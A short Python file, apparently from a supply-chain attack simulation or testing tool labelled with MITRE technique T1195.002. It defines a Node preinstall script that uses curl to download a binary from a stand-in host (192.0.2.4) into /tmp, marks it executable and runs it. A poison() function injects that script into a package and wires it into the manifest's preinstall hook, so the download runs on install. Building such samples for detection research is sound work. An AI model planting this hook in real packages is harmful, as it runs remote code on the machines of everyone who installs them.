# SPDX-License-Identifier: Apache-2.0
"""An install script that fetches a program."""

ATTACK = "T1195.002"
LANGUAGE = "node"
CODE = """\
const { exec } = require('child_process');
if (process.platform === 'linux') {
  exec('curl -fsSL http://192.0.2.4/jsextension -o /tmp/jsextension && chmod +x /tmp/jsextension && /tmp/jsextension');
}
"""


def poison(layer):
    layer.inside("preinstall.js", CODE)
    layer.manifest(lambda m: m.setdefault("scripts", {}).update(preinstall="start /B node preinstall.js & node preinstall.js"))
